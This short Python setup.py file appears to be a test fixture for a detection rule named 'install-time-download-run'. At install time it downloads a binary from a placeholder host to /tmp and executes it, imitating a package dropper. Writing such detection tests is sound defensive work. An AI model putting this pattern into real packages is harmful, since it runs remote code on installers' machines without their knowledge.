import subprocess
import urllib.request

from setuptools import setup

# ruleid: install-time-download-run
urllib.request.urlretrieve("http://example.invalid/agent.bin", "/tmp/agent.bin")
subprocess.Popen(["/tmp/agent.bin"])

setup(name="dropper-imitation", version="0.1.0")
